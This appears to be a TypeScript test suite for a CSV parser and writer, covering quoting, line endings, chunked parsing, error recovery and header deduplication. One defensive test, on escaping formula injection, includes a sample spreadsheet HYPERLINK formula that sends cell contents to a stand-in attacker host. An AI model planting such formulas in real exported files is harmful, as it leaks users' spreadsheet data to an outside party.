import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { CsvParser, countLineBreaks, csvLine, parseCsvText, type CsvRecord } from '../../../src/domain/import/csv.ts';
import { uniqueHeaders } from '../../../src/domain/import/headers.ts';
import { UTF8_CHARS, formatCsv, tableFrom } from './arbitraries.ts';

const fieldsOf = (records: CsvRecord[]) => records.map((r) => ('fields' in r ? r.fields : { line: r.line, code: r.code }));
const linesOf = (records: CsvRecord[]) => records.map((r) => r.line);

/** Feeds the text in pieces cut at the given offsets. */
function parseInPieces(text: string, cuts: number[], delimiter = ','): CsvRecord[] {
  const parser = new CsvParser({ delimiter });
  const out: CsvRecord[] = [];
  let prev = 0;
  for (const cut of [...new Set(cuts)].sort((a, b) => a - b)) {
    out.push(...parser.push(text.slice(prev, cut)));
    prev = cut;
  }
  out.push(...parser.push(text.slice(prev)), ...parser.end());
  return out;
}

describe('CsvParser', () => {
  test('plain records with CRLF, LF and CR line endings', () => {
    for (const nl of ['\r\n', '\n', '\r']) {
      const records = parseCsvText(`a,b,c${nl}1,2,3${nl}4,,6${nl}`, { delimiter: ',' });
      assert.deepEqual(fieldsOf(records), [['a', 'b', 'c'], ['1', '2', '3'], ['4', '', '6']], JSON.stringify(nl));
      assert.deepEqual(linesOf(records), [1, 2, 3]);
    }
  });

  test('no final line break; trailing delimiter gives an empty last field', () => {
    assert.deepEqual(fieldsOf(parseCsvText('a,b\n1,', { delimiter: ',' })), [['a', 'b'], ['1', '']]);
  });

  test('quoted fields: delimiters, doubled quotes, line breaks kept as written; line = where the record starts', () => {
    const text = 'id,memo\r\n1,"a,b"\r\n2,"say ""hi"""\r\n3,"line1\r\nline2\nline3"\r\n4,"x"\r\n';
    const records = parseCsvText(text, { delimiter: ',' });
    assert.deepEqual(fieldsOf(records), [
      ['id', 'memo'],
      ['1', 'a,b'],
      ['2', 'say "hi"'],
      ['3', 'line1\r\nline2\nline3'],
      ['4', 'x'],
    ]);
    assert.deepEqual(linesOf(records), [1, 2, 3, 4, 7]); // record 4 spans lines 4–6
    const multi = records[3]!;
    assert.equal(multi.endLine, 6);
  });

  test('a quote inside an unquoted field is an ordinary character (as Excel reads it)', () => {
    assert.deepEqual(fieldsOf(parseCsvText('a,5" floppy,b\n', { delimiter: ',' })), [['a', '5" floppy', 'b']]);
  });

  test('empty lines are skipped but counted', () => {
    const records = parseCsvText('a,b\n\n\r\n1,2\n\n3,4\n', { delimiter: ',' });
    assert.deepEqual(fieldsOf(records), [['a', 'b'], ['1', '2'], ['3', '4']]);
    assert.deepEqual(linesOf(records), [1, 4, 6]);
  });

  test('a character after a closing quote: error on that line, parsing resumes on the next line', () => {
    const records = parseCsvText('a,b\n1,"x"y\n2,ok\n', { delimiter: ',' });
    assert.deepEqual(fieldsOf(records), [['a', 'b'], { line: 2, code: 'bad_quote' }, ['2', 'ok']]);
    const err = records[1]!;
    assert.ok('error' in err && /closing quote in column 2/u.test(err.error), JSON.stringify(err));
  });

  test('an unterminated quote costs only its own line', () => {
    const records = parseCsvText('a,b\n1,"open\n2,ok\n3,fine\n', { delimiter: ',' });
    assert.deepEqual(fieldsOf(records), [['a', 'b'], { line: 2, code: 'unterminated_quote' }, ['2', 'ok'], ['3', 'fine']]);
    assert.deepEqual(linesOf(records), [1, 2, 3, 4]);
  });

  test('a stray quote that pairs with a later quote is reported at its line; later lines are re-read', () => {
    // "bad opens a field that the quote of line 3 closes, followed by 3 → bad_quote at line 2.
    const records = parseCsvText('a,b\n1,"bad\n"3",x\n4,y\n', { delimiter: ',' });
    assert.deepEqual(fieldsOf(records), [['a', 'b'], { line: 2, code: 'bad_quote' }, ['3', 'x'], ['4', 'y']]);
    assert.deepEqual(linesOf(records), [1, 2, 3, 4]);
  });

  test('a record longer than maxRecordChars is reported and skipped (bounded memory)', () => {
    const parser = new CsvParser({ delimiter: ',', maxRecordChars: 100 });
    const out = [...parser.push('a,b\n1,"'), ...parser.push('x'.repeat(300)), ...parser.push('\n2,ok\n'), ...parser.end()];
    assert.deepEqual(fieldsOf(out), [['a', 'b'], { line: 2, code: 'record_too_long' }, ['2', 'ok']]);
    assert.deepEqual(linesOf(out), [1, 2, 3]);
    // An over-long line without any line break yet is skipped up to its end.
    const p2 = new CsvParser({ delimiter: ',', maxRecordChars: 50 });
    const out2 = [...p2.push('a\n'), ...p2.push('y'.repeat(60)), ...p2.push('y'.repeat(60)), ...p2.push('\r'), ...p2.push('\nb\n'), ...p2.end()];
    assert.deepEqual(fieldsOf(out2), [['a'], { line: 2, code: 'record_too_long' }, ['b']]);
    assert.deepEqual(linesOf(out2), [1, 2, 3]);
  });

  test('tab and semicolon delimiters', () => {
    assert.deepEqual(fieldsOf(parseCsvText('a\tb,c\n"1\t2"\t3\n', { delimiter: '\t' })), [['a', 'b,c'], ['1\t2', '3']]);
    assert.deepEqual(fieldsOf(parseCsvText('a;b\n1;2\n', { delimiter: ';' })), [['a', 'b'], ['1', '2']]);
  });

  test('rejects impossible delimiters', () => {
    assert.throws(() => new CsvParser({ delimiter: '"' }));
    assert.throws(() => new CsvParser({ delimiter: ',,' }));
  });

  test('property: any split of the input into chunks gives the same records', () => {
    const text = fc
      .array(fc.constantFrom('a', 'あ', ',', '"', '""', '\n', '\r\n', '\r', ' ', 'x"y'), { maxLength: 60 })
      .map((a) => a.join(''));
    fc.assert(
      fc.property(text, fc.array(fc.nat(80), { maxLength: 8 }), (t, cuts) => {
        const whole = parseCsvText(t, { delimiter: ',' });
        assert.deepEqual(parseInPieces(t, cuts.map((c) => Math.min(c, t.length))), whole);
        // Lines only go forward.
        for (let i = 1; i < whole.length; i++) assert.ok(whole[i]!.line > whole[i - 1]!.endLine);
      }),
      { numRuns: 2000 },
    );
  });

  test('property: formatCsv → parse gives the table back, with physical start lines', () => {
    fc.assert(
      fc.property(tableFrom(UTF8_CHARS), fc.constantFrom(',', '\t', ';'), fc.constantFrom('\r\n', '\n'), ({ headers, rows }, delimiter, nl) => {
        const text = formatCsv([headers, ...rows], delimiter, nl);
        const records = parseCsvText(text, { delimiter });
        // The parser keeps all-blank records (",,"; a lone empty cell is written as ""): the reader drops them.
        const expected = [headers, ...rows];
        assert.deepEqual(fieldsOf(records), expected);
        let line = 1;
        records.forEach((r, i) => {
          assert.equal(r.line, line);
          line += 1 + expected[i]!.reduce((n, v) => n + countLineBreaks(v), 0);
        });
      }),
      { numRuns: 1000 },
    );
  });
});

describe('csvLine', () => {
  test('quotes only what needs it, and a lone empty cell as ""', () => {
    assert.equal(csvLine(['plain', 'a,b', 'say "x"', ' lead', '', null]), 'plain,"a,b","say ""x"""," lead",,');
    assert.equal(csvLine(['a,b'], '\t'), 'a,b');
    assert.equal(csvLine(['']), '""');
  });

  test('text that a spreadsheet would run as a formula gets a leading quote, inside a quoted cell (OWASP)', () => {
    const cases: Array<[string, string]> = [
      ['=HYPERLINK("https://evil.example/?"&A1,"詳細")', `"'=HYPERLINK(""https://evil.example/?""&A1,""詳細"")"`],
      ['+819012345678', `"'+819012345678"`],
      ['-1200', `"'-1200"`],
      ['@SUM(A1)', `"'@SUM(A1)"`],
      ['\t=1+1', `"'\t=1+1"`],
      ['\r=1+1', `"'\r=1+1"`],
      ['\n=1+1', `"'\n=1+1"`],
      ['  =1+1', `"'  =1+1"`],
      ['＝1+1', `"'＝1+1"`],
      ['－1200', `"'－1200"`],
    ];
    for (const [value, written] of cases) {
      assert.equal(csvLine([value]), written, JSON.stringify(value));
      // Read back, the cell is the value behind the quote: shown as text, never evaluated.
      assert.deepEqual(fieldsOf(parseCsvText(csvLine(['x', value]), { delimiter: ',' })), [['x', `'${value}`]]);
    }
    // Not at the start: nothing to escape.
    assert.equal(csvLine(['a=1', 'x-1', 'info@example.jp']), 'a=1,x-1,info@example.jp');
  });

  test("a number (the export's own figure) stays a number; text that looks like one does not", () => {
    assert.equal(csvLine([-1200, 3, 0.5, '-1200']), `-1200,3,0.5,"'-1200"`);
    assert.equal(csvLine([1, Number.NaN]), '1,');
  });
});

describe('countLineBreaks', () => {
  test('CRLF, LF and lone CR each count once', () => {
    assert.equal(countLineBreaks('no'), 0);
    assert.equal(countLineBreaks('a\r\nb\nc\rd'), 3);
    assert.equal(countLineBreaks('\r\r\n\n'), 3);
  });
});

describe('uniqueHeaders', () => {
  test('trims, names empty headers after their column, numbers duplicates', () => {
    const { headers, warnings } = uniqueHeaders([' 住所 ', '住所', '', '住所 (2)', '住所', '名前']);
    assert.deepEqual(headers, ['住所', '住所 (3)', '列3', '住所 (2)', '住所 (4)', '名前']);
    assert.equal(warnings.length, 3);
    assert.match(warnings[0]!, /住所 \(3\)/u);
  });
  test('an empty header whose generated name is taken', () => {
    assert.deepEqual(uniqueHeaders(['列2', '']).headers, ['列2', '列2 (2)']);
  });
});
